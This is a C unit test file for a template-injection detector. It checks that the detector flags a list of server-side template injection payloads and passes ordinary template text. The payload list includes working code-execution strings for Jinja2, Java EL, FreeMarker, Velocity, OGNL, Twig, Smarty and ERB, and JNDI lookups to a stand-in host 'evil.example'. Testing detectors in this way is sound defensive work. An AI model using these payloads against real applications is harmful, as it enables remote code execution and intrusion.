/* Code in template brackets is found; placeholders and everyday expressions are not. */
#include "unit/guard/injection_cases.h"

extern const bawn_guard bawn_guard_template;

static const char *const attacks[] = {
    "{{7*7}}", "{{ 7 * '7' }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{ config.items() }}", "{{request.application.__globals__}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}", "{{constructor.constructor('alert(1)')()}}", "<%= system('id') %>",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }", "<%= `ls` %>", "#{ %x(id) }", "{{['id']|filter('system')}}",
    "{{ [\"id\", 0] | sort( \"passthru\") }}", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "{php}echo `id`;{/php}", "%{7*7}",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "%{#_memberAccess['allowStaticMethodAccess']=true}",
    "{% for c in [].__class__.__base__.__subclasses__() %}", "().__class__.__bases__[0].__subclasses__()", "*{7*7}", "@(7*7)", "{{_self.env.registerUndefinedFilterCallback(1)}}",
};
static const char *const honest[] = {
    "Dear {{name}}, your order {{ order.id }} of {{ items | length }}", "`Total: ${a.b * 2} and ${items.map(x => x.y).join()}`", "{% if user %}{% endif %}", "<%= @user.name %>",
    "#{user.name} and #{count + 1}", "{{ .Values.image.tag | default \"x\" }}", "{{ config(materialized='table') }}", "self.__class__.__name__ and type(x).__mro__",
    "<%= `git rev-parse HEAD` %>", "<%= `Hello ${name}` %>", "#{ %x(git describe) }", "{{ list | map('upper') | sort('name') }}", "{{ t('system') }}",
    "#set($total = $x.price)", "Format with %{name} and %{count}.", "The {php} tag", "{{ lines | filter(is_system) }}", "#{ %w(id ls) }",
    "What does {{ }} mean in Jinja?", "${process.env.HOME}", "echo ${HOME} ${1} ${#a[@]}", "css #{$var} @media (min-width: 1px)", "{{ price * 7 }}", "What is jndi: for?",
};

static void finds_payloads(void **state) { (void)state; cases_all_found(&bawn_guard_template, attacks, BAWN_COUNT(attacks)); }
static void passes_honest_text(void **state) { (void)state; cases_none_found(&bawn_guard_template, honest, BAWN_COUNT(honest)); }
static void rows_hold_and_cutting_changes_nothing(void **state)
{
    (void)state;
    cases_rows_and_cuts(&bawn_guard_template, attacks, BAWN_COUNT(attacks));
    cases_rows_and_cuts(&bawn_guard_template, honest, BAWN_COUNT(honest));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(finds_payloads), cmocka_unit_test(passes_honest_text),
                                        cmocka_unit_test(rows_hold_and_cutting_changes_nothing) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
